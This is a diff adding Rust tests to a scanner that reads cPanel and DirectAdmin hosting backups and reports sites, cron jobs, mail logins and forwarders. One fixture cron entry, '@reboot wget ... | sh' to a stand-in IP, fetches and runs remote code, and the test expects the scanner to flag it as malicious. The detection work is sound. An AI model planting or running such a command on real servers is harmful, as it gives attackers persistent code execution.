@@ -304,6 +304,12 @@ fn a_cpanel_full_backup_is_read_as_the_whole_account() {
     // Every renderer shows the account, in plain words.
     let text = engine::present::render::text(&r, 50);
     assert!(
+        text.contains(
+            "(main domain) in backup-8.1.2024_03-00-00_jane/homedir/public_html/: WordPress"
+        ),
+        "{text}"
+    );
+    assert!(
         text.contains("Scheduled tasks (cron)") && text.contains("every 15 minutes"),
         "{text}"
     );
@@ -364,4 +370,42 @@ fn hostile_account_files_stay_bounded() {
         "{:?}",
         a.forwarders
     );
+}
+
+#[test]
+fn a_directadmin_backup_is_read_with_the_same_machinery() {
+    let files: Vec<(&str, &[u8])> = vec![
+        ("backup/user.conf", b"username=joe\ndomain=joe.example\n"),
+        ("backup/crontab.conf", b"1=*/30 * * * * /usr/local/bin/php /home/joe/domains/joe.example/public_html/cron.php\n2=@reboot wget -q -O- http://198.51.100.7/a | sh\n"),
+        ("backup/joe.example/email/passwd", b"info:{SHA512-CRYPT}REDACTEDDAHASH\n"),
+        ("backup/joe.example/email/aliases", b"sales:joe.private@mail.example\n"),
+        ("domains/joe.example/public_html/index.php", b"<?php echo 'hi';\n"),
+        ("domains/shop.example/public_html/index.html", b"<p>shop</p>\n"),
+    ];
+    let r = scan(&tar(&files, true)).unwrap();
+    let a = r.account.as_ref().expect("the account section");
+    assert_eq!(a.panel, "DirectAdmin");
+    assert_eq!(a.user.as_deref(), Some("joe"));
+    assert!(a
+        .logins
+        .iter()
+        .any(|l| l.kind == "control panel" && l.name == "joe"));
+    let domains: Vec<&str> = a.sites.iter().map(|s| s.domain.as_str()).collect();
+    assert_eq!(domains, ["joe.example", "shop.example"]);
+    assert_eq!(a.cron.len(), 2);
+    assert_eq!(a.cron[1].verdict, Verdict::Malicious);
+    assert_eq!(a.cron[1].when, "every time the server starts");
+    assert_eq!(
+        status_of(&r, "backup/crontab.conf").unwrap().verdict,
+        Verdict::Malicious
+    );
+    assert!(a
+        .logins
+        .iter()
+        .any(|l| l.kind == "email" && l.name == "info@joe.example"));
+    assert_eq!(a.forwarders.len(), 1);
+    assert_eq!(a.forwarders[0].from, "sales@joe.example");
+    assert!(!serde_json::to_string(&r)
+        .unwrap()
+        .contains("REDACTEDDAHASH"));
 }
